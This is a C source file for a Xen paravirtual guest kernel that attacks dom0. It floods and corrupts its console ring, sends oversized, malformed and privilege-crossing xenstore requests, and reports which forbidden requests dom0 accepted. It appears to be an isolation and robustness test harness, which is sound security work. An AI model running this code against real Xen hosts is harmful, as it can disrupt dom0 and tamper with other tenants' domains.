/*
 * attacker: a PV kernel that does to dom0 what it can, for as long as it is told, with all of its
 * vcpu's time. The words of its command line:
 *
 *	seconds=N  how long (60)
 *	flood      as much as its console takes
 *	ring       wild indices in its console's ring, and bytes of all kinds
 *	store      as many requests as the store takes: giant, binary and odd nodes of its
 *	           own, and what it must not do
 *	unplug     the same of its devices' nodes: they end and begin, with nonsense in them
 *	lie        broken messages and wild indices in the store's ring; nothing is said to the
 *	           store after that
 *
 * It says what was answered, when it is over, and then sleeps:
 *
 *  attack over: N answers, N refused, N watch events; of what it must not do: N refused, N done
 *  done: TYPE BODY    for each of these, by its number in xs_wire.h
 */
#include "../pv64.h"

#include <xen/io/xs_wire.h>

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

/* ---- chance and time ---- */

static uint64_t chance(void)
{
	static uint64_t x = 88172645463325252; /* Marsaglia's xorshift */

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return x;
}

static uint64_t cycles(void)
{
	uint32_t low, high;

	asm volatile("rdtsc" : "=a"(low), "=d"(high));
	return (uint64_t)high << 32 | low;
}

/* Nanoseconds since the machine began (xen/include/public/xen.h, vcpu_time_info). */
static uint64_t now(const struct console *c)
{
	const volatile struct vcpu_time_info *t = &c->shared->vcpu_info[0].time;
	uint32_t version;
	uint64_t ns;

	do {
		version = t->version;
		barrier();
		ns = cycles() - t->tsc_timestamp;
		ns = t->tsc_shift < 0 ? ns >> -t->tsc_shift : ns << t->tsc_shift;
		ns = t->system_time +
		     (uint64_t)((unsigned __int128)ns * t->tsc_to_system_mul >> 32);
		barrier();
	} while (version & 1 || version != t->version);
	return ns;
}

/* ---- the console ---- */

static void flood(const struct console *c)
{
	static const char text[] = "the attacker floods its console with this line\r\n";
	volatile struct xencons_interface *r = c->ring;

	while (r->out_prod - r->out_cons < sizeof(r->out)) {
		r->out[MASK_XENCONS_IDX(r->out_prod, r->out)] =
			text[r->out_prod % (sizeof(text) - 1)];
		barrier();
		r->out_prod++;
	}
	notify(c);
}

static void scribble(const struct console *c)
{
	volatile struct xencons_interface *r = c->ring;
	const uint64_t how = chance();

	r->out[chance() % sizeof(r->out)] = (char)chance();
	if (how % 8 == 0)
		r->out_cons = (XENCONS_RING_IDX)chance();
	if (how % 8 == 1)
		r->out_prod = (XENCONS_RING_IDX)chance();
	if (how % 8 == 2) /* a full one */
		r->out_prod = r->out_cons + sizeof(r->out);
	if (how % 8 == 3) /* one more than there can be */
		r->out_prod = r->out_cons + sizeof(r->out) + 1;
	if (how % 8 == 4)
		r->in_cons = (XENCONS_RING_IDX)chance();
	if (how % 8 == 5)
		r->in_prod = (XENCONS_RING_IDX)chance();
	notify(c);
}

/* ---- what is asked of the store ---- */

/*
 * In a body | is a zero byte, and % begins something else:
 *
 *	%d  its own domid	%o  another one, up to 31	%n  a number that grows
 *	%G  2000 bytes		%H  4000 bytes			%B  bytes of all kinds
 */
struct ask {
	uint32_t type;
	const char *body;
};

static const struct ask own_nodes[] = {
	{XS_WRITE, "data/n%n|%G"},
	{XS_WRITE, "data/up|%B"},
	{XS_WRITE, "data/up|%G"},
	{XS_WRITE, "data/up|%H"},
	{XS_WRITE, "data/%B|x"},
	{XS_WRITE, "data/%H|x"},
	{XS_WRITE, "control/shutdown|%B"},
	{XS_WRITE, "control/shutdown|poweroff"},
	{XS_WRITE, "control/sysrq|%G"},
	{XS_WRITE, "drivers/%n|%B"},
	{XS_MKDIR, "data/d/%n/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z|"},
	{XS_SET_PERMS, "data/up|n%d|"},
	{XS_SET_PERMS, "data/up|n%d|b%o|"},
	{XS_SET_PERMS, "data/n%n|n%d|"},
	{XS_SET_PERMS, "data/up|%B"},
	{XS_RM, "data/up|"},
	{XS_RM, "data/n%n|"},
	{XS_READ, "data/up|"},
	{XS_READ, "/local/domain/%o/name|"},
	{XS_DIRECTORY, "data|"},
	{XS_DIRECTORY, "/local/domain|"},
	{XS_WATCH, "data|t%n|"},
	{XS_WATCH, "/|t%n|"},
	{XS_WATCH, "@releaseDomain|t%n|"},
	{XS_RESET_WATCHES, "|"},
	{XS_TRANSACTION_START, "|"},
	{XS_TRANSACTION_END, "T|"},
	{XS_TYPE_COUNT, "%B"},
};

/* A disk xvda and an interface. */
static const struct ask devices[] = {
	{XS_WRITE, "device/vbd/51712/state|6"},
	{XS_WRITE, "device/vbd/51712/state|1"},
	{XS_WRITE, "device/vbd/51712/ring-ref|%n"},
	{XS_WRITE, "device/vbd/51712/event-channel|%n"},
	{XS_WRITE, "device/vbd/51712/state|3"},
	{XS_WRITE, "device/vbd/51712/ring-ref|%B"},
	{XS_WRITE, "device/vbd/51712/ring-page-order|4294967295"},
	{XS_WRITE, "device/vbd/51712/protocol|%G"},
	{XS_WRITE, "device/vbd/51712/backend|/local/domain/0/backend/vbd/%o/51712"},
	{XS_WRITE, "device/vbd/51712/state|4"},
	{XS_WRITE, "device/vbd/51712/state|5"},
	{XS_WRITE, "device/vbd/51712/state|%B"},
	{XS_WRITE, "device/vif/0/state|6"},
	{XS_WRITE, "device/vif/0/state|1"},
	{XS_WRITE, "device/vif/0/tx-ring-ref|%n"},
	{XS_WRITE, "device/vif/0/rx-ring-ref|%n"},
	{XS_WRITE, "device/vif/0/event-channel|%n"},
	{XS_WRITE, "device/vif/0/request-rx-copy|1"},
	{XS_WRITE, "device/vif/0/multi-queue-num-queues|4294967295"},
	{XS_WRITE, "device/vif/0/state|4"},
	{XS_WRITE, "device/vif/0/state|5"},
	{XS_RM, "device/vbd/51712/backend|"},
};

static const struct ask forbidden[] = {
	{XS_WRITE, "/local/domain/%o/data/mine|x"},
	{XS_WRITE, "/local/domain/%o/control/shutdown|poweroff"},
	{XS_SET_PERMS, "/local/domain/%o|b%d|"},
	{XS_SET_PERMS, "/local/domain/%d|b%d|"},
	{XS_WRITE, "/local/domain/0/backend/vbd/%d/51712/params|/dev/mem"},
	{XS_WRITE, "/local/domain/0/backend/vbd/%d/51712/state|4"},
	{XS_WRITE, "/local/domain/0/error/x%n|x"},
	{XS_RM, "/local/domain/0|"},
	{XS_RM, "/local/domain/%d|"},
	{XS_WRITE, "/libxl/%d/x|x"},
	{XS_WRITE, "/libxl/%d/device/vbd/51712/backend|x"},
	{XS_WRITE, "/vm/x%n|x"},
	{XS_WRITE, "/tool/x%n|x"},
	{XS_WRITE, "/x%n|x"},
	{XS_WRITE, "name|quiet"},
	{XS_WRITE, "domid|0"},
	{XS_WRITE, "vm|/vm/x"},
	{XS_WRITE, "x%n|x"},
	{XS_WRITE, "memory/target|1"},
	{XS_WRITE, "memory/static-max|1"},
	{XS_WRITE, "cpu/0/availability|offline"},
	{XS_WRITE, "store/port|1"},
	{XS_WRITE, "store/ring-ref|1"},
	{XS_WRITE, "console/tty|/dev/mem"},
	{XS_WRITE, "console/port|1"},
	{XS_WRITE, "console/ring-ref|1"},
	{XS_WRITE, "console/output|file:/x"},
	{XS_WRITE, "console/limit|4294967295"},
	{XS_WRITE, "console/x%n|x"},
	{XS_WRITE, "image/device-model-pid|1"},
	{XS_RM, "name|"},
	{XS_RM, "console/tty|"},
	{XS_INTRODUCE, "%o|1|1|"},
	{XS_RELEASE, "%o|"},
	{XS_RESUME, "%o|"},
	{XS_SET_TARGET, "%d|%o|"},
	{XS_CONTROL, "check|"},
	{XS_CONTROL, "logfile|/x|"},
};

/* ---- the store's ring ---- */

#define FORBIDDEN 0x80000000u /* in a request's number, with its place in the list */

struct store {
	volatile struct xenstore_domain_interface *ring;
	evtchn_port_t port;
	unsigned domid;
	uint64_t n;
	/* what is sent, as far as there was room */
	char out[sizeof(struct xsd_sockmsg) + XENSTORE_PAYLOAD_MAX];
	size_t len, sent;
	/* what comes */
	struct xsd_sockmsg head;
	size_t got;    /* of the head */
	uint32_t left; /* of the body */
	char body[16];
	size_t body_len;
	unsigned long answers, refused, events, stopped, done;
	unsigned char was_done[COUNT(forbidden)];
	int lied;
};

static void notify_store(const struct store *s)
{
	const struct console c = {.port = s->port};

	notify(&c);
}

static void add(struct store *s, char byte)
{
	if (s->len < sizeof(s->out))
		s->out[s->len++] = byte;
}

static void add_number(struct store *s, uint64_t n)
{
	char digits[20];
	unsigned i = sizeof(digits);

	do {
		digits[--i] = (char)('0' + n % 10);
		n /= 10;
	} while (n);
	while (i < sizeof(digits))
		add(s, digits[i++]);
}

static void add_bytes(struct store *s, size_t n, char byte)
{
	while (n--)
		add(s, byte);
}

static void add_some(struct store *s, char what)
{
	uint64_t other;

	switch (what) {
	case 'd':
		add_number(s, s->domid);
		break;
	case 'o':
		do
			other = chance() % 32;
		while (other == s->domid);
		add_number(s, other);
		break;
	case 'n':
		add_number(s, s->n++ % 5000);
		break;
	case 'G':
		add_bytes(s, 2000, 'g');
		break;
	case 'H':
		add_bytes(s, 4000, 'h');
		break;
	default:
		for (unsigned i = 0; i < 100; i++)
			add(s, (char)chance());
	}
}

static void compose(struct store *s, const struct ask *a, uint32_t number)
{
	struct xsd_sockmsg head = {.type = a->type, .req_id = number};
	const char *from = (const char *)&head;

	s->len = sizeof(head);
	s->sent = 0;
	for (const char *p = a->body; *p; p++) {
		if (*p == '%')
			add_some(s, *++p);
		else
			add(s, *p == '|' ? '\0' : *p);
	}
	head.len = (uint32_t)(s->len - sizeof(head));
	for (size_t i = 0; i < sizeof(head); i++)
		s->out[i] = from[i];
}

/* Sends what there is room for. Returns whether all of it has gone. */
static int push(struct store *s)
{
	volatile struct xenstore_domain_interface *r = s->ring;
	const size_t before = s->sent;

	while (s->sent < s->len && r->req_prod - r->req_cons < sizeof(r->req)) {
		r->req[MASK_XENSTORE_IDX(r->req_prod)] = s->out[s->sent++];
		barrier();
		r->req_prod++;
	}
	if (s->sent != before)
		notify_store(s);
	return s->sent == s->len;
}

static void count(struct store *s)
{
	const int must_not = s->head.req_id & FORBIDDEN && s->head.type != XS_WATCH_EVENT;
	const uint32_t place = s->head.req_id & ~FORBIDDEN;

	if (s->head.type == XS_WATCH_EVENT)
		s->events++;
	else if (!must_not && s->head.type == XS_ERROR)
		s->refused++;
	else if (!must_not)
		s->answers++;
	else if (s->head.type == XS_ERROR)
		s->stopped++;
	else
		s->done++;
	if (must_not && s->head.type != XS_ERROR && place < COUNT(forbidden))
		s->was_done[place] = 1;
}

/* Takes a byte of an answer. Returns whether it was its last. */
static int take(struct store *s, char byte)
{
	char *to = (char *)&s->head;

	if (s->got < sizeof(s->head)) {
		to[s->got++] = byte;
		if (s->got < sizeof(s->head))
			return 0;
		s->left = s->head.len;
		s->body_len = 0;
	} else {
		if (s->body_len < sizeof(s->body) - 1)
			s->body[s->body_len++] = byte;
		s->left--;
	}
	if (s->left)
		return 0;
	s->body[s->body_len] = '\0';
	s->got = 0;
	count(s);
	return 1;
}

/* Takes what has come. Returns whether an answer is complete. */
static int pull(struct store *s)
{
	volatile struct xenstore_domain_interface *r = s->ring;
	int whole = 0;

	if (r->rsp_cons == r->rsp_prod)
		return 0;
	while (r->rsp_cons != r->rsp_prod) {
		barrier();
		whole |= take(s, r->rsp[MASK_XENSTORE_IDX(r->rsp_cons)]);
		barrier();
		r->rsp_cons++;
	}
	notify_store(s);
	return whole;
}

static void open_store(struct store *s, const struct start_info *si)
{
	static const struct ask domid = {XS_READ, "domid|"};

	s->ring = page_of(si->store_mfn);
	s->port = si->store_evtchn;
	compose(s, &domid, 0);
	while (!push(s))
		;
	while (!pull(s))
		;
	s->domid = (unsigned)number(s->body);
}

/* One request of the list, as soon as there is room for it. */
static void ask_store(struct store *s, const struct ask *list, size_t n)
{
	pull(s);
	if (!push(s))
		return;
	if (chance() % 4) {
		compose(s, &list[chance() % n], 1);
	} else {
		const uint32_t place = (uint32_t)(chance() % COUNT(forbidden));

		compose(s, &forbidden[place], FORBIDDEN | place);
	}
}

static void lie(struct store *s)
{
	volatile struct xenstore_domain_interface *r = s->ring;
	const struct xsd_sockmsg head = {.type = XS_WRITE, .len = 0xffffffff};
	const char *from = (const char *)&head;

	if (!s->lied) {
		pull(s);
		if (!push(s))
			return;
		for (s->len = 0; s->len < sizeof(head); s->len++)
			s->out[s->len] = from[s->len];
		s->sent = 0;
		push(s);
		s->lied = 1;
		return;
	}
	r->req[chance() % sizeof(r->req)] = (char)chance();
	r->req_prod = (XENSTORE_RING_IDX)chance();
	r->rsp_cons = (XENSTORE_RING_IDX)chance();
	r->connection = (uint32_t)chance();
	notify_store(s);
}

/* ---- words ---- */

struct plan {
	int flood, ring, store, unplug, lie;
	uint64_t seconds;
};

static void take_word(struct plan *p, const char *word)
{
	const char *seconds = after(word, "seconds=");

	if (seconds)
		p->seconds = number(seconds);
	p->flood |= equal(word, "flood");
	p->ring |= equal(word, "ring");
	p->store |= equal(word, "store");
	p->unplug |= equal(word, "unplug");
	p->lie |= equal(word, "lie");
}

static void take_words(struct plan *p, const char *cmdline)
{
	char word[32];
	size_t n;

	while (*cmdline) {
		for (n = 0; *cmdline && *cmdline != ' '; cmdline++)
			if (n < sizeof(word) - 1)
				word[n++] = *cmdline;
		word[n] = '\0';
		take_word(p, word);
		while (*cmdline == ' ')
			cmdline++;
	}
}

static void attack(const struct console *c, struct store *s, const struct plan *p)
{
	const uint64_t end = now(c) + p->seconds * 1000000000;

	while (now(c) < end) {
		if (p->store)
			ask_store(s, own_nodes, COUNT(own_nodes));
		if (p->unplug)
			ask_store(s, devices, COUNT(devices));
		if (p->lie)
			lie(s);
		if (p->flood)
			flood(c);
		if (p->ring)
			scribble(c);
	}
}

static void put_count(const struct console *c, unsigned long n, const char *what)
{
	put_number(c, n, 1);
	put(c, what);
}

static void report(const struct console *c, const struct store *s)
{
	/* After wild indices it is empty again. */
	c->ring->out_prod = c->ring->out_cons;
	c->ring->in_cons = c->ring->in_prod;
	put(c, "\r\nattack over: ");
	put_count(c, s->answers, " answers, ");
	put_count(c, s->refused, " refused, ");
	put_count(c, s->events, " watch events; of what it must not do: ");
	put_count(c, s->stopped, " refused, ");
	put_count(c, s->done, " done\r\n");
	for (size_t i = 0; i < COUNT(forbidden); i++) {
		if (!s->was_done[i])
			continue;
		put(c, "done: ");
		put_count(c, forbidden[i].type, " ");
		put(c, forbidden[i].body);
		put(c, "\r\n");
	}
	notify(c);
}

void pv_main(const struct start_info *si)
{
	static struct store s;
	struct plan plan = {.seconds = 60};
	struct console c;

	open_console(&c, si);
	take_words(&plan, (const char *)si->cmd_line);
	put(&c, "attacker is up\r\n");
	notify(&c);
	if (plan.store || plan.unplug || plan.lie)
		open_store(&s, si);
	attack(&c, &s, &plan);
	report(&c, &s);
	for (;;)
		get_char(&c);
}
